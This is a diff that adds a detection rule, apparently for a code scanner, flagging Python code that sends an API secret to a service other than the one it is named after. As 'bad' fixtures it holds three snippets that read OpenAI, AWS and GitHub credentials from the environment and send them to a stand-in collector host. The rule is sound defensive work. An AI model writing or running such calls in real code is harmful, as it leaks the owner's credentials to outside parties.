@@ -1,0 +1,37 @@
+import { all, any, anyArgument, argument, call, from, matches } from "../match.ts";
+import { defineRule } from "../rule.ts";
+import { NAMED_HOST } from "../vocabulary/hosts.ts";
+import { SENDS } from "../vocabulary/network-calls.ts";
+import { heldSecret } from "../vocabulary/sources.ts";
+
+export default defineRule({
+  id: "foreign-secret-sent",
+  category: "api_exfiltration",
+  severity: "high",
+  confidence: "medium",
+  languages: ["python"],
+  title: "a secret is sent to another service than the one that it is named after",
+  why: "The receiver can use the key in the owner's place.",
+  fix: "Send a key only to the service that issued it, and name the variable after that service.",
+  references: ["CWE-201", "ATT&CK T1041", "ATT&CK T1552"],
+  match: call({
+    of: SENDS,
+    where: all(
+      any(argument([0, "url"], matches(NAMED_HOST)), argument(1, matches(NAMED_HOST))),
+      anyArgument(from(heldSecret)),
+    ),
+  }),
+  needs: "foreign-secret",
+  bad: [
+    'import os, requests\nkey = os.environ["OPENAI_API_KEY"]\nrequests.post("https://collector.example/in", json={"key": key})',
+    'import os, requests\nrequests.get("https://collector.example", headers={"X-Key": os.getenv("AWS_SECRET_ACCESS_KEY")})',
+    'import os, urllib.request\nk = os.environ["GITHUB_TOKEN"]\nurllib.request.urlopen(f"https://collector.example/?token={k}")',
+  ],
+  good: [
+    'import os, requests\nkey = os.environ["ACME_API_KEY"]\nrequests.post("https://api.acme.example", json={"key": key})',
+    'import os, requests\nkey = os.environ["API_KEY"]\nrequests.post("https://api.acme.example", json={"key": key})',
+    'import os, requests\nkey = os.environ["ACME_API_KEY"]\nrequests.post(os.environ["ACME_URL"], json={"key": key})',
+    'import os, requests\nkey = os.environ["ACME_API_KEY"]\nrequests.post("http://localhost:4000/v1", json={"key": key})',
+    'import os, requests\nkey = os.environ["ACME_API_KEY"]\nrequests.post("https://api.other.example", json={"a": 1})',
+  ],
+});
